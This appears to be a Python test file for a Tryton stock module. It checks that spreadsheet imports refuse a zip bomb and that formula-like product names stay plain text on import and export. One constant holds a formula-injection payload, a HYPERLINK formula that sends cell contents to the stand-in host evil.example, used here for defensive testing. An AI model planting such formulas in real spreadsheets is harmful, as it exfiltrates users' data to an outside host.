"""Opening import and report exports through the Excel layer (issue 17,
finding 5): a zip bomb is refused unread, formula-like names stay texts"""
import io

from openpyxl import load_workbook

from trytond.exceptions import UserError
from trytond.modules.company.tests import set_company
from trytond.modules.factory_stock_ext.tests.tools_excel import zip_bomb
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction
from trytond.modules.factory_stock_ext.tests.db_test_case import (
    DBTestCase)

from trytond.modules.factory_stock_ext import excel

from ..columns import COLUMNS, label
from ..report_common import workbook
from .test_opening import DATE, counts, setup

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bolt")'


class ExcelFilesTestCase(DBTestCase):
    module = 'stock_ledger'

    @with_transaction()
    def test_opening_zip_bomb_refused(self):
        Import = Pool().get('stock.opening.import')
        company = setup()[0]
        with set_company(company):
            before = counts()
            with self.assertRaises(UserError) as cm:
                Import.import_file(zip_bomb(), file_name='bomb.xlsx',
                    date=DATE)
            self.assertEqual(cm.exception.code, 'unpacked_too_large')
            self.assertEqual(counts(), before)

    @with_transaction()
    def test_formula_name_imported_and_exported_as_text(self):
        pool = Pool()
        Import = pool.get('stock.opening.import')
        Product = pool.get('product.product')
        company = setup()[0]
        with set_company(company):
            # A sheet written by the layer itself holds the names as texts
            book = excel.workbook()
            excel.append(book.active, [label(c) for c in COLUMNS])
            row = {'product_code': '=1+1', 'product_name': NAME,
                'unit': 'u', 'warehouse': 'WH', 'location': 'A-01',
                'quantity': 1, 'unit_cost': 2}
            excel.append(book.active, [row.get(c.key) for c in COLUMNS])
            Import.import_file(excel.save(book), file_name='f.xlsx',
                date=DATE, create_products=True)
            product, = Product.search([('code', '=', '=1+1')])
            self.assertEqual(product.name, NAME)
            data = workbook([('=Stock', ['Code', 'Product', 'Qty'],
                        [[product.code, product, 1]])])
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        code, name, quantity = sheet[2]
        self.assertEqual((code.value, name.value, quantity.value),
            ('=1+1', product.rec_name, 1))
        for cell in [code, name]:
            self.assertEqual(cell.data_type, 's')
            # "[=1+1] =HYPERLINK…" starts with "[": a plain text already
            self.assertEqual(cell.quotePrefix,
                cell.value.startswith(excel.FORMULA_START))


del DBTestCase
